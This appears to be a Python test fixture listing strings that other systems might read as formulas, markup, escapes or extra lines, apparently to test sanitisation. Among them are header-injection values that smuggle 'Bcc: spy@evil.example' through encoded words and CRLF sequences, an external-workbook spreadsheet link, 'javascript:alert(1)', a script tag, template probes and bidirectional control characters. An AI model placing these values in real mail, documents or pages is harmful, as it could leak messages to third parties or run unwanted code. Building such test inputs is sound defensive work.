"""Texts that some place or other would take for more than text: a formula, a code, an escape, a tag, another line."""

HIDDEN_LINE = "=?utf-8?b?UGxhbgpCY2M6IHNweUBldmlsLmV4YW1wbGU=?="
"""Encoded as headers are: the word Plan, a line break, and ``Bcc: spy@evil.example``."""
PIECES = (
    "=", "=?", "?=", HIDDEN_LINE, "=?utf-8?q?Plan=0D=0ABcc:_spy=40evil.example?=",
    "='http://x/[b.xlsx]S'!$A$1", "Sheet!$A$1", "=1+1", "@SUM(A1)", "[b.xlsx]", "#REF!",
    "_x0041_", "_x000A_", "_x005F_", "_x", "&", "&&", "&P", "&10", "&amp;", "&#64;", "&L", '"', "'", "''", "`",
    "<", ">", "</a:t>", "<script>", "]]>", "{{ 7*7 }}", "{% raw %}", "{", "}", "\\", "%", "%0d%0aBcc: x", "%s",
    "\r\n", "\r", "\n", "\r\nBcc: spy@evil.example", "\r\n\r\n", "\t", "\x00", "\x07", "\x0b", "\x1b[31m", "\x7f",
    "\x85", "\u2028", "\u2029", "\u202e", "\u202d", "\u2066", "\u2069", "\u200b", "\u200e", "\ufeff", "\ufffe", "\xad",
    "mailto:", "javascript:alert(1)", "; x=1", ",", ":", "(", ")", "*", "?", "~", "/", "..",
    "a", "Plan", "1", " ", "  ", "\u00e9", "\u6f22", "\U0001f600", "e\u0301",
)  # fmt: skip
EVERYTHING = "".join(PIECES)
